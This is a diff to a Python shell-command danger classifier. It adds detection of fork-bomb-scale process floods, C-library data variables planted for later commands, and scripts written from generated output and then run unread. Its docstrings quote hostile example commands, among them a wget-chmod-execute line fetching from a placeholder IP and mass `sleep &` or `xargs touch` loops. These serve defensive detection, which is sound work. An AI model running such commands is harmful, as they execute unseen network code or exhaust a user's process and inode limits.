@@ -35,9 +35,10 @@ from dongle.classify.cmdlets import (
     takes_away,
 )
 from dongle.classify.combined import combined, published_dirs
+from dongle.classify.exhaustion import filled_to_exhaustion, handles_exhausted
 from dongle.classify.settings_text import plain_settings_appended
 from dongle.classify.startup_variables import NAMES as STARTUP_VARIABLES
-from dongle.classify.startup_variables import agent_in_text, code_loaded, command_made
+from dongle.classify.startup_variables import agent_in_text, code_loaded, command_made, libc_data_read
 from dongle.classify.switched_off import IN_PLACE_EDITORS, switched_off
 from dongle.classify.verdict import assess
 from dongle.levels import SCORE_BANDS, DangerLevel
@@ -474,6 +475,10 @@ def _assess_model(
     if exhausted is not None:
         risky = True
         parts.append(exhausted)
+    for used_up in (filled_to_exhaustion(model, subject), handles_exhausted(model, subject)):
+        if used_up is not None:
+            risky = True
+            parts.append(used_up)
     if not model.invocations and model.unresolved:
         return Assessment.failed(subject, "; ".join(model.unresolved))
     together = combined(parts, subject) if len(parts) > 1 or (parts and parts[0].rules) else None
@@ -537,6 +542,12 @@ def _shell_setting_planted(name: str, value: str, cwd: str | None, env: dict[str
                 f"sets {name} for the shell's later commands: every process it reaches loads {loaded}, "
                 "code that is not judged", "Give it to the one command that needs it.",
                 f"`unset {name}`.", subject)
+        data = libc_data_read(name, value, cwd, env)
+        if data:
+            return _later_code_unknown(
+                f"sets {name} for the shell's later commands: the C library of every program it starts "
+                f"reads {data}, which nothing here judges", "Give it to the one command that needs it.",
+                f"`unset {name}`.", subject)
         value = command_made(name, value, cwd, env) or ""
         if not value:
             return None
@@ -596,10 +607,11 @@ def _reevaluated(source: str, cwd: str | None, env: dict[str, str], nesting: int
     return out
 
 
-def _later_code_unknown(what: str, safer: str, recovery: str, subject: str) -> Assessment:
+def _later_code_unknown(what: str, safer: str, recovery: str, subject: str,
+                        rule: str = "compound.persisted-code") -> Assessment:
     """A pause for code planted to run later whose text cannot be read now."""
-    return assess(DangerLevel.DESTRUCTIVE, kind="command", subject=subject,
-                  factors=(f"{what} [compound.persisted-code]",), rules=("compound.persisted-code",),
+    factor = what if what.endswith("]") else f"{what} [{rule}]"
+    return assess(DangerLevel.DESTRUCTIVE, kind="command", subject=subject, factors=(factor,), rules=(rule,),
                   safer_alternative=safer, recovery=recovery)
 
 
@@ -615,23 +627,31 @@ _PER_TURN_FILE = re.compile(r"(?:\bxargs\b[^|;&]*?|\bdo\b(?:[^;]*;)*?\s*)\b(?:to
 _PER_TURN_JOB = re.compile(r"&\s*(?:;\s*)?done\b|\bxargs\b[^|;]*\s-P\s*0\b|\bparallel\b[^|;]*-j\s*0\b")
 _MASS_FILES = 500_000
 _MASS_PROCESSES = 1_000
+# More processes at once than a user's limit leaves room for on most machines (systemd gives a user's
+# slice about a third of the kernel's threads): the effect of a fork bomb, without a function calling itself.
+_PROCESS_TABLE = 10_000
 
 
 def _exhausts_by_count(model: ShellModel, subject: str) -> Assessment | None:
     """`seq 1 5000000 | xargs touch`, `for i in $(seq 40000); do sleep 86400 & done`: files or
     background processes made one per count, in a number the user's inode and process limits do not
     leave room for. Until they are removed or killed, nothing else the user runs can make a file or
-    start a process: tests, the shell, and the guard's hook, which then cannot answer."""
+    start a process: tests, the shell, and the guard's hook, which then cannot answer. Tens of
+    thousands of processes at once is what a fork bomb does (a stop); files, removed with one `rm`,
+    and a thousand jobs pause."""
     counts = [int(next(g for g in m.groups() if g)) for m in _COUNTS.finditer(model.source)]
     count = max(counts, default=0)
+    level = DangerLevel.DESTRUCTIVE
     if count >= _MASS_PROCESSES and _PER_TURN_JOB.search(model.source):
         what = f"starts about {count:,} background processes, one per count"
+        if count >= _PROCESS_TABLE:
+            level, what = DangerLevel.FORBIDDEN, what + ", at once, as a fork bomb does"
     elif count >= _MASS_FILES and _PER_TURN_FILE.search(model.source):
         what = f"makes about {count:,} files, one per count"
     else:
         return None
     return assess(
-        DangerLevel.DESTRUCTIVE, kind="command", subject=subject,
+        level, kind="command", subject=subject,
         factors=(f"{what}: the user's process or inode limit runs out for everything else they run, the "
                  "guard's hook included [sys.exhaust-by-count]",), rules=("sys.exhaust-by-count",),
         safer_alternative="Make a bounded number (a few thousand), in a scratch filesystem or a container "
@@ -3826,8 +3846,12 @@ def _cross_checks(
             return _relabel(inner, "compound.stdin-commands", "runs the commands it reads: ", subject)
     run_unread = _downloaded_then_run(facts, fetched, subject) if fetched else None
     if run_unread is not None:
-        return run_unread
+        return _worse_if_written(run_unread, facts, written, cwd, env, nesting, prod_ctx, subject)
     _record_download(facts, fetched)
+    if targets and facts.name not in _DOWNLOADERS:
+        source = facts.name if payload is None else _substituted(payload, all_facts)
+        if source:
+            _record_unseen_write(source, targets, fetched)
     built = _build_script_run(facts, written, env, nesting, prod_ctx, subject) if written else None
     if built is not None:
         return built
@@ -4386,10 +4410,11 @@ _CROSS_CHECKED = frozenset({"tee", "git", "npm", "pnpm", "yarn", "crontab", "red
 
 
 def _record_download(facts: Facts, fetched: dict[str, tuple[bool, str]]) -> None:
+    """The files a downloader fills (its output options, or its standard output redirected)."""
     if facts.name not in _DOWNLOADERS:
         return
     url = next((a for a in facts.inv.args if "://" in a), "")
-    targets = [info.path for info in facts.output_paths if info.path]
+    targets = [info.path for info in (*facts.output_paths, *facts.write_redirects) if info.path]
     if url and {"-O", "--remote-name"} & facts.parsed.flags and facts.name == "curl":
         targets.append(facts.path(posixpath.basename(url.split("?", 1)[0].rstrip("/"))).path)
     for target in targets:
@@ -4397,11 +4422,49 @@ def _record_download(facts: Facts, fetched: dict[str, tuple[bool, str]]) -> None
             fetched[target] = (_untrusted_fetch(facts), url)
 
 
+_GENERATED = "\0generated"  # in place of a URL: a file written from output known only when it runs
+
+
+def _substituted(payload: str, all_facts: list[Facts]) -> str:
+    """The command whose output lands in the file, when the text an echo/printf writes holds a command
+    substitution the shell runs (the parser ran it as a nested command: not a quoted `'$(…)'`)."""
+    if "$(" not in payload and "`" not in payload:
+        return ""
+    return next((f.inv.argv[0] for f in all_facts if f.inv.via and f.inv.via[-1] in ("$()", "``")
+                 and f.inv.argv and f.inv.argv[0] in payload), "")
+
+
+def _worse_if_written(unread: Assessment, facts: Facts, written: Mapping[str, str], cwd: str | None,
+                      env: dict[str, str], nesting: int, prod_ctx: bool, subject: str) -> Assessment:
+    """A script run unread, or, when the line also spelled part of it out, what that part would do if
+    it is worse: an unseen part never lowers what the seen part says."""
+    used = _written_then_used(facts, written) if written else None
+    if used is None:
+        return unread
+    inner = _classify(used[0], cwd, env, nesting + 1, prod_ctx)
+    if inner.danger_level <= unread.danger_level:
+        return unread
+    return _relabel(inner, "compound.written-then-run", f"runs or feeds the file it just wrote ({used[1]}), "
+                    "which would: ", subject)
+
+
+def _record_unseen_write(source: str, targets: Sequence[PathInfo], fetched: dict[str, tuple[bool, str]]
+                         ) -> None:
+    """The files a command fills with output nothing in the line spells out (`python3 gen.py > run.sh`,
+    `printf '%s' "$(…)" > x.sh`): what a later part runs from there is as unread as a download."""
+    for target in targets:
+        if target.path and target.path not in fetched and len(fetched) < 256:
+            fetched[target.path] = (False, _GENERATED + source)
+
+
 def _downloaded_then_run(facts: Facts, fetched: Mapping[str, tuple[bool, str]], subject: str
                          ) -> Assessment | None:
     """`wget -qO /tmp/.x http://IP/k && chmod +x /tmp/.x && /tmp/.x`, `curl -o i.sh URL; sh i.sh`:
     a file fetched in this line and then run is code from the network run unseen, as `curl … | sh`
-    is: a pause, and a stop when it comes from a bare IP, a URL shortener or plain http."""
+    is: a pause, and a stop when it comes from a bare IP, a URL shortener or plain http. A file the
+    line wrote from a program's output or a command substitution (`python3 gen.py > s.sh; bash s.sh`)
+    is as unseen: the guard reads a script on disk when it judges the line, before the line has
+    written it, so what runs is not what was judged: a pause."""
     script = _script_operand(facts)
     family = interpreter_family(facts.name)
     if script is None and family in _INLINE_FLAG and facts.parsed.positionals:
@@ -4409,6 +4472,13 @@ def _downloaded_then_run(facts: Facts, fetched: Mapping[str, tuple[bool, str]], 
     if script not in fetched:
         return None
     untrusted, url = fetched[script]
+    if url.startswith(_GENERATED):
+        return _later_code_unknown(
+            f"runs {script}, which this line writes from the output of `{url[len(_GENERATED):]}`, known only "
+            "when it runs: the code that runs is not the code that was judged [compound.generated-then-run]",
+            "Write the file first, read it, then run it as a separate step.",
+            "Read what the file held when it ran and undo what it did.", subject,
+            rule="compound.generated-then-run")
     level = DangerLevel.FORBIDDEN if untrusted else DangerLevel.DESTRUCTIVE
     return assess(
         level, kind="command", subject=subject, irreversible=level == DangerLevel.FORBIDDEN,
